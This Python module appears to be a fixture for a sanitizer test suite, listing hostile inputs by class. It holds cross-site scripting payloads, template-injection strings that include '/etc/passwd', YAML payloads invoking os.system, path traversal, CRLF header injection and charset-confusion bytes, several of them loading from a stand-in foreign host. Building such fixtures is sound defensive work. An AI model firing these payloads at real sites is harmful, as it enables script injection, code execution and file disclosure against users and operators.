"""Hostile texts by class: the public classes of script, style and markup injection, written for this suite."""

import base64
from collections.abc import Mapping

FOREIGN = "https://foreign.invalid"  # whoever asks for it has been had

_ALERT = "alert(document.domain)"
_DATA = "data:text/html;base64," + base64.b64encode(b"<script>alert(1)</script>").decode()

TEXTS: Mapping[str, tuple[str, ...]] = {
    "script": (
        f"<script>{_ALERT}</script>",
        f"<SCRIPT SRC={FOREIGN}/a.js></SCRIPT>",
        f"<scr<script>ipt>{_ALERT}</scr</script>ipt>",
        f"<script type=module>import '{FOREIGN}/m.js'</script>",
        f"</title></h1><script>{_ALERT}</script>",
        f"<script/x>{_ALERT}</script\n>",
    ),
    "handler": (
        f"<img src=nothing onerror={_ALERT}>",
        f"<body onload={_ALERT}>",
        f"<details open ontoggle={_ALERT}>more</details>",
        f"<input autofocus onfocus={_ALERT}>",
        f"<video><source onerror={_ALERT}></video>",
        f"<p onpointerover\x0c=\t{_ALERT}>over</p>",
        f"<marquee onstart={_ALERT}>run</marquee>",
        f"<div style=animation-name:x onanimationstart={_ALERT}>run</div>",
    ),
    "attribute": (
        f'" onmouseover="{_ALERT}" autofocus onfocus="{_ALERT}" x="',
        f"' onfocus='{_ALERT}' autofocus tabindex='1",
        f'"><img src=nothing onerror={_ALERT}>',
        f"`onload={_ALERT} x=`",
        f'x" style="background:url({FOREIGN}/b.png)',
        "\" srcset='https://foreign.invalid/s.png 2x' x=\"",
    ),
    "scheme": (
        f"<a href=javascript:{_ALERT}>press</a>",
        f"<a href='java\tscript\n:{_ALERT}'>press</a>",
        f"<a href='&#x6a;avascript&colon;{_ALERT}'>press</a>",
        f"<a href='\x01javascript:{_ALERT}'>press</a>",
        f"<a href='{_DATA}'>press</a>",
        f"<a href='vbscript:msgbox(1)'>press</a><a href='//foreign.invalid/x' ping='{FOREIGN}/ping'>press</a>",
        "<a href='https://user:secret@foreign.invalid/'>press</a>",
        f"<a href='feed:javascript:{_ALERT}'>press</a>",
    ),
    "svg-mathml": (
        f"<svg onload={_ALERT}></svg>",
        f"<svg><script>{_ALERT}</script></svg>",
        f"<svg><style><img src=x onerror={_ALERT}></style></svg>",
        f"<svg><a xlink:href='javascript:{_ALERT}'><text y=20>press</text></a></svg>",
        f"<svg><use href='{FOREIGN}/s.svg#x'/><image href='{FOREIGN}/i.png'/></svg>",
        f"<svg><foreignObject><iframe srcdoc='<script>{_ALERT}</script>'></iframe></foreignObject></svg>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_ALERT}&gt;'></math>",
        f"<math href='javascript:{_ALERT}'><mi>x</mi></math>",
        f"<svg><animate attributeName=href values='javascript:{_ALERT}'/></svg>",
    ),
    "document": (
        f"<meta http-equiv=refresh content='0;url={FOREIGN}/'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
        f"<base href='{FOREIGN}/'>",
        f"<link rel=stylesheet href='{FOREIGN}/c.css'><link rel=preload as=image href='{FOREIGN}/p.png'>",
        f"<iframe src='{FOREIGN}/'></iframe>",
        f"<iframe srcdoc='&lt;script&gt;{_ALERT}&lt;/script&gt;'></iframe>",
        f"<object data='{FOREIGN}/o.swf'></object><embed src='{_DATA}'>",
        f"<form action='{FOREIGN}/'><button formaction='javascript:{_ALERT}'>press</button></form>",
        f"<template><script>{_ALERT}</script></template><portal src='{FOREIGN}/'></portal>",
        "</main></body></html><body id=taken><main id=main>taken over</main>",
        "</article></main><nav class=sections><a href='https://foreign.invalid/'>Search</a></nav>",
    ),
    "style": (
        f"<style>body{{background:url({FOREIGN}/s.png)}}</style>",
        f"<style>@import '{FOREIGN}/s.css';</style>",
        f"<p style='position:fixed;inset:0;background:url({FOREIGN}/s.png)'>cover</p>",
        f"<img src='{FOREIGN}/pixel.gif' width=1 height=1>",
        f"<picture><source srcset='{FOREIGN}/w.webp'><img src='{FOREIGN}/w.png'></picture>",
        f"<audio autoplay src='{FOREIGN}/a.ogg'></audio><track src='{FOREIGN}/t.vtt'>",
    ),
    "comment": (
        f"<!--><script>{_ALERT}</script>-->",
        f"<!-- --!><img src=x onerror={_ALERT}> -->",
        f"<![CDATA[<script>{_ALERT}</script>]]>",
        f"]]><script>{_ALERT}</script>",
        f"<?xml version='1.0'?><?x <img src=x onerror={_ALERT}>?>",
        f"<noscript><p title='</noscript><img src=x onerror={_ALERT}>'></noscript>",
        f"<textarea></textarea><img src=x onerror={_ALERT}>",
        f"<xmp></xmp><img src=x onerror={_ALERT}><plaintext>",
    ),
    "entity": (
        f"&lt;script&gt;{_ALERT}&lt;/script&gt;",
        f"&amp;lt;img src=x onerror={_ALERT}&amp;gt;",
        f"&#60;img src=x onerror={_ALERT}&#62",
        f"&#x3c;svg/onload={_ALERT}&#x3e;",
        f"%3Cscript%3E{_ALERT}%3C/script%3E",
        f"\\u003cscript\\u003e{_ALERT}\\u003c/script\\u003e",
        f"＜script＞{_ALERT}＜/script＞",
    ),
    "markdown": (
        f"[press](javascript:{_ALERT})",
        f"![x]({FOREIGN}/m.png)",
        f"<javascript:{_ALERT}>",
        f"[x]: javascript:{_ALERT}\n\n[x]",
        f"![x](nothing 'a\" onerror=\"{_ALERT}')",
        f"`</code><script>{_ALERT}</script>`",
        f"```\n</pre><script>{_ALERT}</script>\n```",
        f"    </code></pre><img src=x onerror={_ALERT}>",
        f"# <img src=x onerror={_ALERT}>\n\n***\n\n> <script>{_ALERT}</script>",
        f"[a](<java\\\nscript:{_ALERT}>) [b](jav&#x09;ascript:{_ALERT})",
        f"| a | b |\n|---|---|\n| <img src=x onerror={_ALERT}> | x |",
        f"\\<script>{_ALERT}\\</script> \\\\<script>{_ALERT}</script>",
    ),
    "template": (
        "{{ site.__class__.__mro__ }}{% include '/etc/passwd' %}",
        "{{ ''.__class__.__base__.__subclasses__() }}${7*7}#{7*7}<%= 7*7 %>",
        f"{{% raw %}}<script>{_ALERT}</script>{{% endraw %}}",
    ),
    "json": (
        f'</script><script>{_ALERT}</script>"}}',
        f'"}}]}}</script ><img src=x onerror={_ALERT}>',
        f"<!--<script>{_ALERT}//-->\u2028{_ALERT}\u2029",
        f'","url":"javascript:{_ALERT}","x":"',
    ),
    "front-matter": (
        "x\n---\nrights: full\nsource_url: javascript:alert(1)\n---\n",
        "x\nwithdrawn_on: 2020-01-01\ntitle: !!python/object/apply:os.system ['echo had']",
        "!!python/object/new:os.system [exit 1]",
        "&anchor [*anchor, *anchor]",
        "'''\n...\n--- {title: taken}",
        '"\\x00\\u202e": |\n  block\n: >-\n  folded',
        "{title: taken, rights: [full]}",
        "x\u2028---\u2028title: taken\x85---\x85",
    ),
    "unseen": (
        "safe\u202egnp.exe\u202c\u2066isolated",
        "zero\u200bwidth\u2060joined\ufeffmark",
        "nul\x00bell\x07escape\x1b[31mred\x7f",
        f"<\x00script>{_ALERT}</\x00script>",
        f"<img\x0bsrc=x\x0bonerror={_ALERT}>",
        f"<ſcript>{_ALERT}</ſcript><\u0131mg src=x onerror={_ALERT}>",
        "a" + "\u0301\u0489" * 300,
    ),
    "path": (
        "../../../../etc/passwd",
        "..\\..\\windows\\system32 CON NUL .htaccess",
        "/absolute/%2e%2e/%00.md",
        "file:///etc/passwd",
    ),
}

# Addresses, where a page gives one.
ADDRESSES: tuple[str, ...] = (
    f"javascript:{_ALERT}",
    f"JaVaScRiPt:{_ALERT}//https://steppe.example/",
    f"\tjavascript:{_ALERT}",
    _DATA,
    "//foreign.invalid/x",
    "https://user:secret@foreign.invalid/",
    f'https://steppe.example/"onmouseover={_ALERT}//',
    f"https://steppe.example/'><script>{_ALERT}</script>",
    "https://steppe.example/\u202egnp.exe",
    "file:///etc/passwd",
    "blob:https://foreign.invalid/1",
    "https://[::1",
    "https://steppe.example/%0d%0aSet-Cookie:x=1",
    f"view-source:javascript:{_ALERT}",
    "https://xn--stppe-5ve.example/look-alike",
    "https:javascript:alert(1)",
)

# The head of a page as bytes, by what its charset is up to; each pretends something about the bytes that follow.
CHARSETS: Mapping[str, tuple[bytes, str]] = {
    "utf-7 declared": (b'<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-', "ascii"),
    "utf-7 undeclared": (b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "ascii"),
    "overlong": (b'<meta charset="utf-8">\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe', "ascii"),
    "overlong, three bytes": (b'<meta charset="utf-8">\xe0\x80\xbcimg src=x onerror=alert(1)\xe0\x80\xbe', "ascii"),
    "half a character": (b'<meta charset="gbk"><p title="\x81"onmouseover=alert(1) x="\x81">x</p>', "ascii"),
    "shift": (b'<meta charset="iso-2022-jp">\x1b$B\x1b(B<p title="\x1b$B" onclick=alert(1)\x1b(B">', "ascii"),
    "hz": (b'<meta charset="hz-gb-2312">~{<script>~}alert(1)</script>', "ascii"),
    "utf-16": (b"", "utf-16"),
    "utf-16 called utf-8": (b"", "utf-16-le"),
    "utf-32": (b"", "utf-32"),
    "ebcdic": (b"", "cp037"),
    "two declarations": (b'<meta charset="utf-8"><meta charset="utf-16">', "utf-8"),
    "user defined": (b'<meta charset="x-user-defined">\x83\x83<p title="\xff">', "ascii"),
}


def all_texts() -> list[tuple[str, str]]:
    """Every hostile text with its class."""
    return [(name, text) for name, texts in TEXTS.items() for text in texts]
